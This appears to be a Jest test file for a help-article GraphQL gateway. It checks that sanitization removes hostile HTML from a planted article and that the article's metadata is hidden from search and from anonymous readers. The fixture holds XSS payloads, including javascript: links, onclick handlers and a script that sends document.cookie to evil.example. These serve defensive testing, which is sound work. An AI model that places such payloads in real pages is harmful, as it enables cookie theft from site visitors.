import fs from "node:fs";
import os from "node:os";
import path from "node:path";
import { htmlElements, unsafeParts } from "../support/html-elements";
import { refusal, TestGateway } from "../support/harness";

// A library of our own articles plus one written by a careless (or hostile) author: a metadata
// block naming its author and a routing queue, a javascript: link, raw HTML with handlers, a
// script. Written here, for this test.

const ARTICLE_ID = "a1b2c3d4-0000-4000-8000-00000000f011";
const AUTHOR = "zelda.quarrington@fabrikam.example";
const QUEUE = "zqxroutingqueue";

const HOSTILE = `<properties
    pageTitle="Reset a broken routing form"
    description="What to do when the routing form sends a case nowhere."
    service="microsoft.aad"
    supportTopicIds="100990"
    cloudEnvironments="public"
    articleId="${ARTICLE_ID}"
/>
# Reset a broken routing form
---
{
  "$schema": "SelfHelpContent",
  "owner": "${AUTHOR}",
  "routing": { "queue": "${QUEUE}", "supportTopicId": "100990" }
}
---

The routing form may send a case nowhere. Click [here](javascript:alert(document.cookie)) to reset it.

<ul><li onclick="steal()">Open the <a href="https://learn.example.com/forms" onmouseover="steal()">form guide</a></li><li style="color:red">Check the queue</li></ul>

<table><tr><th>Field</th><th>Value</th></tr><tr><td>Queue</td><td>default</td></tr></table>

<script>fetch("https://evil.example/?c=" + document.cookie)</script>

## Recommended Steps

1. Open the routing form again.
2. Reset the broken routing form with <a href="jav&#x61;script:alert(1)">this link</a> or [the docs](https://learn.example.com/reset).
`;

let gateway: TestGateway;
let dir: string;

beforeAll(async () => {
  dir = fs.mkdtempSync(path.join(os.tmpdir(), "helpgate-article-html-"));
  fs.cpSync(path.join(__dirname, "..", "..", "articles"), dir, { recursive: true });
  fs.mkdirSync(path.join(dir, "forms"));
  fs.writeFileSync(path.join(dir, "forms", "routing-form.md"), HOSTILE);
  gateway = await TestGateway.start({ ARTICLES_DIR: dir });
});
afterAll(async () => {
  await gateway?.stop();
  fs.rmSync(dir, { recursive: true, force: true });
});

const BODY_FIELDS = "html markdown sections { title markdown steps { text markdown links { url } } } recommendedSteps { text markdown links { text url } }";

describe("an article with script and a metadata block, served over GraphQL", () => {
  it("article(id) serves html without script, handlers or the javascript: link, and no body field holds the metadata", async () => {
    const data = await gateway.ok(null, `query($id: ID!) { article(id: $id) { ${BODY_FIELDS} } }`, { id: ARTICLE_ID });
    const { html } = data.article;
    expect(unsafeParts(html)).toEqual([]);
    expect(html).not.toMatch(/<script|javascript|onclick|evil\.example/i);
    for (const secret of [AUTHOR, QUEUE, "$schema"]) expect(JSON.stringify(data)).not.toContain(secret);
    expect(data.article.recommendedSteps.map((step: { links: { url: string }[] }) => step.links)).toEqual([[], [{ text: "the docs", url: "https://learn.example.com/reset" }]]);
  });

  it("renders the raw HTML list, link and table as elements", async () => {
    const data = await gateway.ok(null, "query($id: ID!) { article(id: $id) { html } }", { id: ARTICLE_ID });
    const elements = htmlElements(data.article.html);
    const tags = elements.map((element) => element.tagName);
    expect(tags).toEqual(expect.arrayContaining(["ul", "li", "table", "tr", "th", "td", "ol", "h1", "h2"]));
    expect(elements.filter((element) => element.tagName === "a").map((element) => element.attributes)).toEqual([
      {}, // the javascript: link, its text kept
      { href: "https://learn.example.com/forms" },
      {}, // the entity-encoded javascript: link
      { href: "https://learn.example.com/reset" },
    ]);
    expect(data.article.html).toContain("Check the queue");
  });

  it("searchArticles and ask never find the article by what only its metadata holds, nor show it", async () => {
    for (const words of [QUEUE, "zelda quarrington", "fabrikam", "SelfHelpContent"]) {
      const search = await gateway.ok(null, "query($q: String!) { searchArticles(query: $q) { article { articleId } } }", { q: words });
      expect(search.searchArticles.map((hit: { article: { articleId: string } }) => hit.article.articleId)).not.toContain(ARTICLE_ID);
      const ask = await gateway.ok(null, "query($q: String!) { ask(question: $q) { articles { article { articleId } } markdown } }", { q: words });
      expect(ask.ask.articles.map((hit: { article: { articleId: string } }) => hit.article.articleId)).not.toContain(ARTICLE_ID);
    }
    const found = await gateway.ok(null, `{ searchArticles(query: "reset broken routing form") { article { articleId ${BODY_FIELDS} } highlights { snippet } } }`);
    expect(found.searchArticles[0].article.articleId).toBe(ARTICLE_ID);
    const asked = await gateway.ok(null, '{ ask(question: "how do I reset a broken routing form") { articles { article { articleId html } } steps { text markdown } markdown } }');
    expect(asked.ask.articles[0].article.articleId).toBe(ARTICLE_ID);
    expect(asked.ask.markdown).toContain("Open the routing form again.");
    for (const served of [found, asked]) {
      for (const secret of [AUTHOR, QUEUE, "$schema"]) expect(JSON.stringify(served)).not.toContain(secret);
    }
    // markdown fields are the source as written (its raw HTML included); html and ask's Markdown are what readers see.
    expect(unsafeParts(found.searchArticles[0].article.html)).toEqual([]);
    expect(unsafeParts(asked.ask.articles[0].article.html)).toEqual([]);
    expect(asked.ask.markdown).not.toMatch(/<script|javascript:/i);
  });

  it("keeps the metadata as JSON for signed-in callers, and refuses it to anonymous readers", async () => {
    const signedIn = await gateway.ok("ada.lovelace", "query($id: ID!) { article(id: $id) { metadata } }", { id: ARTICLE_ID });
    expect(signedIn.article.metadata).toEqual([{ $schema: "SelfHelpContent", owner: AUTHOR, routing: { queue: QUEUE, supportTopicId: "100990" } }]);
    const anonymous = await gateway.gql(null, "query($id: ID!) { article(id: $id) { pageTitle metadata } }", { id: ARTICLE_ID });
    expect(anonymous.data).toEqual({ article: { pageTitle: "Reset a broken routing form", metadata: null } });
    expect(refusal(anonymous).code).toBe("UNAUTHENTICATED");
  });

  it("our own articles keep every link and list through the sanitizer", async () => {
    const data = await gateway.ok(null, '{ articles(filter: { errorCode: "CountViolation" }) { edges { node { html markdown } } } }');
    for (const { node } of data.articles.edges) {
      expect(unsafeParts(node.html)).toEqual([]);
      const links = (node.markdown.match(/\]\(https?:/g) ?? []).length;
      expect(htmlElements(node.html).filter((element) => element.tagName === "a" && /^https?:/.test(element.attributes.href ?? "")).length).toBe(links);
      expect(htmlElements(node.html).some((element) => element.tagName === "ol")).toBe(true);
    }
  });
});
